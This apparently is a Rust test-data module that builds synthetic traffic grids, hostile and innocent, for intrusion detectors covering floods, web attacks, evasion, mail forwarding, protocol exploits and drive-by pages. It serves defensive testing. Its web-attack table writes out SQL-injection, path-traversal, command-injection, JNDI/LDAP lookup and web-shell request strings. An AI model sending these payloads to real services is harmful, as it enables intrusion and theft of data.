//! The grids of the detectors of attacks on services, and of what services bring.

use lab::Random;
use model::{Event, ScriptSeen};

use super::Table;
use super::facts::{Ends, Facts, OUTWARD, share};
use super::grid::{grid, named};

pub(super) fn tables() -> Vec<Table> {
    vec![
        flood(),
        flood_of_requests(),
        flood_innocent(),
        web_attack(),
        web_innocent(),
        evasion(),
        evasion_innocent(),
        mail_forward(),
        mail_innocent(),
        exploit(),
        exploit_innocent(),
        drive_by(),
        drive_by_innocent(),
    ]
}

fn flood() -> Table {
    let rows = [
        ("half-open connections".to_owned(), 0_u8),
        ("answers of resolvers".to_owned(), 1),
        ("slow requests".to_owned(), 2),
    ];
    let columns = named(&[10_u32, 50, 200, 1_000], " a second");
    let (columns, rows) = grid(&rows, &columns, "flood", |random, kind, rate| {
        let mut facts = Facts::default();
        for n in 0..rate * 5 {
            let client = match kind {
                2 => "198.51.100.7".to_owned(),
                _ => format!("198.{}.{}.{}", 18 + random.below(2), random.below(250), random.below(250)),
            };
            let ends = Ends {
                client: &client,
                server: "10.0.0.80",
                port: 80,
                transport: if kind == 1 { 17 } else { 6 },
            };
            let payload = [[0, 0], [3_000, 0], [240, 0]][usize::from(kind)];
            facts.flow(f64::from(n) / f64::from(rate), ends, payload, |fact| {
                fact.established = kind == 2;
                fact.packets = [1, 0];
                fact.tcp_flags = [2, 0];
                if kind == 1 {
                    fact.who.client_port = 53;
                }
                if kind == 2 {
                    fact.last = fact.who.began.plus_secs(9);
                }
            });
        }
        facts.take()
    });
    Table {
        detector: "flood",
        hostile: true,
        title: "Five seconds of a flood",
        corner: "kind",
        columns,
        rows,
    }
}

fn flood_innocent() -> Table {
    let rows =
        [("a shop with many visitors".to_owned(), 0_u8), ("a resolver that is slow at times".to_owned(), 1)];
    let columns = named(&[50_u32, 200], " a second");
    let (columns, rows) = grid(&rows, &columns, "flood", |random, kind, rate| {
        let mut facts = Facts::default();
        for n in 0..rate * 5 {
            let client = format!("198.18.{}.{}", random.below(250), random.below(250));
            let ends = Ends {
                client: &client,
                server: "10.0.0.80",
                port: if kind == 0 { 443 } else { 53 },
                transport: if kind == 0 { 6 } else { 17 },
            };
            let lost = kind == 1 && share(random) < 0.2;
            facts.flow(f64::from(n) / f64::from(rate), ends, [500, if lost { 0 } else { 9_000 }], |fact| {
                fact.packets = [1, u64::from(!lost)];
            });
        }
        facts.take()
    });
    Table { detector: "flood", hostile: false, title: "Many visitors", corner: "traffic", columns, rows }
}

fn web_attack() -> Table {
    let rows = [
        ("SQL".to_owned(), "/p.php?id=1%27+UNION+SELECT+1,2,3--"),
        ("paths that climb".to_owned(), "/view?f=../../../../etc/passwd"),
        ("commands".to_owned(), "/ping?host=1.2.3.4;cat%20/tmp/x"),
        ("look-ups (JNDI)".to_owned(), "/x?q=$%7Bjndi:ldap://203.0.113.9/a%7D"),
        ("a web shell".to_owned(), "/s.php?cmd=whoami"),
    ];
    let columns = [("answered 404".to_owned(), "404"), ("answered 200".to_owned(), "200")];
    let (columns, rows) = grid(&rows, &columns, "web_attack", |_, uri, status| requests(&[uri], status));
    Table { detector: "web_attack", hostile: true, title: "One request", corner: "attack", columns, rows }
}

fn requests(uris: &[&str], status: &str) -> Vec<Event> {
    let mut facts = Facts::default();
    let ends = Ends { client: "198.51.100.7", server: "10.0.0.80", port: 80, transport: 6 };
    for (n, uri) in uris.iter().enumerate() {
        let fields = [
            ("http.method", "GET"),
            ("http.uri", *uri),
            ("http.host", "shop.example"),
            ("http.stat_code", status),
        ];
        facts.exchange(n as f64, ends, "http", None, &fields);
    }
    facts.take()
}

fn web_innocent() -> Table {
    let rows = [
        (
            "searches that name parts of queries".to_owned(),
            ["/search?q=western+union+select+a+branch", "/search?q=select+a+wine+from+france"],
        ),
        ("marks in values".to_owned(), ["/a?sort=asc|desc&f=(a+b)*c", "/news?title=the+king's+speech"]),
        ("relative links".to_owned(), ["/doc/../img/logo.png", "/a/b/../../c.css"]),
    ];
    let columns = named(&[1_usize, 50], " times");
    let (columns, rows) = grid(&rows, &columns, "web_attack", |_: &mut Random, uris, times| {
        requests(&uris.repeat(times), "200")
    });
    Table {
        detector: "web_attack",
        hostile: false,
        title: "Ordinary requests",
        corner: "requests",
        columns,
        rows,
    }
}

fn odd(kind: &'static str, count: u32) -> Vec<Event> {
    let mut facts = Facts::default();
    (0..count).for_each(|n| facts.oddity(f64::from(n), kind));
    facts.take()
}

fn evasion() -> Table {
    let rows = [
        ("fragments that overlap".to_owned(), "decoder.ipv4.frag_overlap"),
        ("segments sent again with other bytes".to_owned(), "stream.reassembly_overlap_different_data"),
        ("unknown options of IPv6".to_owned(), "decoder.ipv6.dstopts_unknown_opt"),
        ("requests of two lengths".to_owned(), "DUPLICATE_CONTENT_LENGTH_FIELD_IN_REQUEST"),
    ];
    let columns = named(&[1_u32, 3, 10], " times");
    let (columns, rows) = grid(&rows, &columns, "evasion", |_, kind, count| odd(kind, count));
    Table { detector: "evasion", hostile: true, title: "What is read two ways", corner: "way", columns, rows }
}

fn evasion_innocent() -> Table {
    let rows = [
        (
            "a byte that keeps a connection alive".to_owned(),
            ("stream.reassembly_overlap_different_data", 1_u32),
        ),
        ("padding that is missing".to_owned(), ("decoder.ipv4.opt_pad_required", 100)),
    ];
    let columns = named(&[1_u32], " pair of hosts");
    let (columns, rows) = grid(&rows, &columns, "evasion", |_, (kind, count), _| odd(kind, count));
    Table {
        detector: "evasion",
        hostile: false,
        title: "What is only untidy",
        corner: "oddity",
        columns,
        rows,
    }
}

/// Requests for ten seconds, by so many clients; `page` names what the n-th asks for.
fn asked(
    random: &mut Random,
    clients: u64,
    rate: u32,
    status: Option<&'static str>,
    page: impl Fn(&mut Random, u32) -> String,
) -> Vec<Event> {
    let mut facts = Facts::default();
    for n in 0..rate * 10 {
        let client = format!("198.18.{}.{}", random.below(clients) / 250, random.below(clients.min(250)));
        let (uri, agent) = (page(random, n), format!("Mozilla/5.0 ({})", random.below(40)));
        let mut fields = vec![
            ("http.method", "GET"),
            ("http.uri", uri.as_str()),
            ("http.host", "bank.example"),
            ("http.user_agent", agent.as_str()),
        ];
        fields.extend(status.map(|status| ("http.stat_code", status)));
        let ends = Ends { client: &client, server: "10.0.0.80", port: 80, transport: 6 };
        facts.exchange(f64::from(n) / f64::from(rate), ends, "http", None, &fields);
    }
    facts.take()
}

fn flood_of_requests() -> Table {
    let rows = [
        ("one host, past every cache".to_owned(), (1_u64, Some("200"))),
        ("a hundred hosts, unanswered".to_owned(), (100, None)),
        ("a thousand hosts, errors".to_owned(), (1_000, Some("503"))),
    ];
    let columns = named(&[5_u32, 50, 500], " a second");
    let (columns, rows) = grid(&rows, &columns, "flood", |random, (clients, status), rate| {
        asked(random, clients, rate, status, |random, _| format!("/?{}", random.below(1 << 40)))
    });
    let title = "Ten seconds of complete requests";
    Table { detector: "flood", hostile: true, title, corner: "kind", columns, rows }
}

/// So many mails come for a mailbox and are passed on to `members` addresses outside, a share of them.
fn passed_on(random: &mut Random, mails: u32, chosen: f64, members: u32) -> Vec<Event> {
    let mut facts = Facts::default();
    let inward = Ends { client: "198.51.100.25", server: "10.0.0.25", port: 25, transport: 6 };
    let outward = Ends { client: "10.0.0.25", port: 25, ..OUTWARD };
    for n in 0..mails {
        let (at, id) = (f64::from(n) * 300.0, format!("<{n}@mail.example>"));
        let came = [("smtp.rcpt_to", "<minister@bank.example>"), ("email.message_id", id.as_str())];
        facts.exchange(at, inward, "smtp", None, &came);
        if share(random) < chosen {
            for member in 0..members {
                let recipient = format!("<box{member}@drop.example>");
                let left = [("smtp.rcpt_to", recipient.as_str()), ("email.message_id", id.as_str())];
                facts.exchange(at + 2.0 + f64::from(member), outward, "smtp", None, &left);
            }
        }
    }
    facts.take()
}

fn mail_forward() -> Table {
    let rows = [("all mails".to_owned(), 1.0), ("half of them".to_owned(), 0.5)];
    let columns = named(&[4_u32, 10, 40, 200], " mails");
    let (columns, rows) =
        grid(&rows, &columns, "mail_forward", |random, chosen, mails| passed_on(random, mails, chosen, 1));
    let title = "A rule that passes mails on";
    Table { detector: "mail_forward", hostile: true, title, corner: "what it takes", columns, rows }
}

fn mail_innocent() -> Table {
    let rows = [
        ("a mailing list of five".to_owned(), (1.0, 5_u32)),
        ("one in twenty, by hand".to_owned(), (0.05, 1)),
    ];
    let columns = named(&[10_u32, 40], " mails");
    let (columns, rows) = grid(&rows, &columns, "mail_forward", |random, (chosen, members), mails| {
        passed_on(random, mails, chosen, members)
    });
    let title = "Mails that go on as they should";
    Table { detector: "mail_forward", hostile: false, title, corner: "traffic", columns, rows }
}

fn exploit() -> Table {
    let rows = [
        ("a transaction that was never built".to_owned(), "trans2_session_setup"),
        ("a transaction that continues another".to_owned(), "secondary_of_another"),
        ("sizes that overflow".to_owned(), "compressed_size_overflow"),
        ("a heartbeat that asks for more".to_owned(), "OVERFLOW_HEARTBEAT_MESSAGE"),
    ];
    let columns = named(&[1_u32, 3], " times");
    let (columns, rows) = grid(&rows, &columns, "exploit", |_, kind, count| odd(kind, count));
    let title = "What only an exploit sends";
    Table { detector: "exploit", hostile: true, title, corner: "message", columns, rows }
}

fn exploit_innocent() -> Table {
    let rows = [
        ("one transaction without its first part".to_owned(), ("secondary_of_none", 1_u32)),
        ("malformed records".to_owned(), ("malformed_data", 50)),
        ("heartbeats".to_owned(), ("HEARTBEAT_MESSAGE", 50)),
    ];
    let columns = named(&[1_u32], " pair of hosts");
    let (columns, rows) = grid(&rows, &columns, "exploit", |_, (kind, count), _| odd(kind, count));
    Table {
        detector: "exploit",
        hostile: false,
        title: "What merely fails",
        corner: "message",
        columns,
        rows,
    }
}

fn page(script: ScriptSeen) -> Vec<Event> {
    let mut facts = Facts::default();
    let ends = Ends { port: 80, ..OUTWARD };
    facts.page(0.0, ends, script);
    facts.exchange(0.1, ends, "http", None, &[("http.host", "news.example"), ("http.uri", "/a.html")]);
    facts.take()
}

fn drive_by() -> Table {
    let rows = [
        ("fills the memory with code".to_owned(), 0_u8),
        ("an object with a value far too long".to_owned(), 1),
        ("fetches, saves and runs".to_owned(), 2),
    ];
    let columns = named(&[16_u32, 64, 400], " escapes or tens of letters");
    let (columns, rows) = grid(&rows, &columns, "drive_by", |random, kind, size| {
        let (sled, objects) = (1 + random.below(6) as u32, 1 + random.below(2) as u32);
        let none = ScriptSeen::default();
        page(match kind {
            0 => ScriptSeen { escapes: size, sled, unescapes: 2, growth: 1, objects, ..none },
            1 => ScriptSeen { objects, longest_word: size * 10, words: 1, ..none },
            _ => ScriptSeen {
                objects: 3,
                reaches: ScriptSeen::FETCHES | ScriptSeen::STORES | ScriptSeen::RUNS,
                ..none
            },
        })
    });
    Table { detector: "drive_by", hostile: true, title: "Pages that break in", corner: "page", columns, rows }
}

fn drive_by_innocent() -> Table {
    let rows = [
        ("text spelled as escapes".to_owned(), 0_u8),
        ("a player as an object".to_owned(), 1),
        ("requests of 2005".to_owned(), 2),
    ];
    let columns = named(&[10_u32, 4_000], " escapes");
    let (columns, rows) = grid(&rows, &columns, "drive_by", |_, kind, escapes| {
        let none = ScriptSeen::default();
        page(match kind {
            0 => ScriptSeen { escapes, unescapes: 1, growth: 1, ..none },
            1 => ScriptSeen { objects: 2, ..none },
            _ => ScriptSeen { objects: 4, reaches: ScriptSeen::FETCHES, ..none },
        })
    });
    Table { detector: "drive_by", hostile: false, title: "Ordinary pages", corner: "page", columns, rows }
}
